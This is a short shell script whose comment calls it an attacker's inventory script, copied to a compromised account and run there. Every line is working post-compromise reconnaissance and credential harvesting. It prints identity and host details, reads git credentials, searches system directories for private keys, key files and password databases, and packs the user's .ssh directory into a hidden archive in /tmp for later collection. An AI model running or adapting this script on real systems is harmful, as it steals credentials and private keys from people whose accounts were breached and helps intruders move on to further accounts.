#!/bin/sh
# the attacker's inventory script, copied to the next account and run there
id; hostname; ls -la "$HOME" "$HOME/.ssh" 2>/dev/null
git config --global --list 2>/dev/null; cat "$HOME/.git-credentials" 2>/dev/null
find /home /srv /opt /etc -maxdepth 3 \( -name 'id_*' -o -name '*.key' -o -name '*.kdbx' -o -name '.git-credentials' \) -readable 2>/dev/null | head -n 20
tar czf /tmp/.kbd.tgz -C "$HOME" .ssh .profile 2>/dev/null; ls -la /tmp/.kbd.tgz
